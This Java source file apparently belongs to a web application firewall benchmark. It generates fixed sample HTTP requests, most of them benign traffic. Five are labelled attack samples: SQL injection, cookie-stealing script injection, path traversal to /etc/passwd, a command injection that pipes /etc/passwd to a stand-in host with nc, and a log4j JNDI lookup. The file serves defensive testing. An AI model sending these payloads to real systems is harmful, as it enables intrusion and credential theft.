package casemate.waf.bench;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.SplittableRandom;

/// Requests of many kinds, the same bytes every time.
public final class SampleRequests {
    private static final int FORM_BYTES = 2_000;
    private static final int JSON_BYTES = 4_000;
    private static final int LARGE_JSON_BYTES = 100_000;
    private static final int UPLOAD_BYTES = 1_000_000;
    private static final int TEXT_BYTES = 2_000;

    private static final String[] WORDS =
            ("the quick brown fox jumps over a lazy dog while seven wizards order more quiet "
                            + "boxes of jade and people walk along green rivers where children play with stones until evening falls")
                    .split(" ");

    /// What people write in comments: the marks that make naive rules look twice.
    private static final String[] QUOTED = {
        "it's",
        "don't",
        "\"well\"",
        "(see below)",
        "rock'n'roll",
        "O'Brien",
        "5 > 3",
        "a = b;",
        "1/2",
        "50%",
        "C++",
        "--",
        "&",
        "select",
        "from",
        "or"
    };

    private SampleRequests() {}

    /// By name, in the order of the table.
    public static Map<String, byte[]> all() {
        Map<String, byte[]> all = new LinkedHashMap<>();
        all.put("GET, 5 headers", get("/products/index.html", ""));
        all.put(
                "GET, 10 args",
                get(
                        "/search",
                        "?q=red+shoes&page=2&sort=price&order=asc&size=42&brand=acme&color=dark+red"
                                + "&min=10&max=250&session=a81bc81b-dead-4e5d-abff-90865d1e13b1"));
        all.put("POST form 2 KB", form(prose(FORM_BYTES, WORDS)));
        all.put("POST JSON 4 KB", json(JSON_BYTES));
        all.put("attack: SQL injection", get("/item", "?id=1%27%20UNION%20SELECT%20password,2%20FROM%20users--%20-"));
        all.put("attack: script", form("comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"));
        all.put("attack: path traversal", get("/download", "?file=../../../../etc/passwd"));
        all.put("attack: command", form("host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd+%7C+nc+192.0.2.7+4444"));
        all.put("attack: log4j in a header", get("/", "", "X-Api-Version: ${jndi:ldap://192.0.2.7/a}\r\n"));
        all.put("quote-heavy text 2 KB", form(prose(TEXT_BYTES, QUOTED)));
        all.put("POST JSON 100 KB", json(LARGE_JSON_BYTES));
        all.put("upload 1 MB", upload());
        return all;
    }

    private static byte[] get(String path, String query) {
        return get(path, query, "");
    }

    private static byte[] get(String path, String query, String more) {
        return request("GET " + path + query, more, new byte[0]);
    }

    private static byte[] request(String line, String more, byte[] body) {
        String length = body.length == 0 ? "" : "Content-Length: " + body.length + "\r\n";
        byte[] head = (line + " HTTP/1.1\r\nHost: shop.example.org\r\n"
                        + "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\n"
                        + "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
                        + "Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n" + more + length
                        + "\r\n")
                .getBytes(StandardCharsets.ISO_8859_1);
        byte[] whole = java.util.Arrays.copyOf(head, head.length + body.length);
        System.arraycopy(body, 0, whole, head.length, body.length);
        return whole;
    }

    private static byte[] form(String body) {
        return request(
                "POST /comments",
                "Content-Type: application/x-www-form-urlencoded\r\n",
                body.getBytes(StandardCharsets.ISO_8859_1));
    }

    /// Fields of some ten words each, encoded as browsers do.
    private static String prose(int length, String[] seasoning) {
        SplittableRandom random = new SplittableRandom(7);
        StringBuilder text = new StringBuilder("name=Ada+Lovelace&text=");
        for (int words = 1; text.length() < length; words++) {
            String[] from = random.nextInt(3) == 0 ? seasoning : WORDS;
            text.append(java.net.URLEncoder.encode(from[random.nextInt(from.length)], StandardCharsets.UTF_8))
                    .append(words % 10 == 0 ? "&field" + words + "=" : "+");
        }
        return text.append("end").toString();
    }

    private static byte[] json(int length) {
        SplittableRandom random = new SplittableRandom(8);
        StringBuilder text = new StringBuilder("{\"items\":[");
        for (int i = 0; text.length() < length; i++) {
            text.append(i == 0 ? "" : ",")
                    .append("{\"id\":")
                    .append(random.nextInt(1_000_000))
                    .append(",\"name\":\"")
                    .append(WORDS[random.nextInt(WORDS.length)])
                    .append(' ')
                    .append(WORDS[random.nextInt(WORDS.length)])
                    .append("\",\"price\":")
                    .append(random.nextInt(1000))
                    .append(".5,\"tags\":[\"new\",\"sale\"],\"stock\":true}");
        }
        return request(
                "POST /api/orders",
                "Content-Type: application/json\r\n",
                text.append("]}").toString().getBytes(StandardCharsets.ISO_8859_1));
    }

    private static byte[] upload() {
        byte[] start = """
                --xYzZY
                Content-Disposition: form-data; name="title"

                holiday picture
                --xYzZY
                Content-Disposition: form-data; name="file"; filename="beach.jpg"
                Content-Type: image/jpeg

                """.replace("\n", "\r\n").getBytes(StandardCharsets.ISO_8859_1);
        byte[] end = "\r\n--xYzZY--\r\n".getBytes(StandardCharsets.ISO_8859_1);
        byte[] body = new byte[start.length + UPLOAD_BYTES + end.length];
        byte[] content = new byte[UPLOAD_BYTES];
        new java.util.Random(9).nextBytes(content);
        System.arraycopy(start, 0, body, 0, start.length);
        System.arraycopy(content, 0, body, start.length, content.length);
        System.arraycopy(end, 0, body, start.length + content.length, end.length);
        return request("POST /upload", "Content-Type: multipart/form-data; boundary=xYzZY\r\n", body);
    }
}
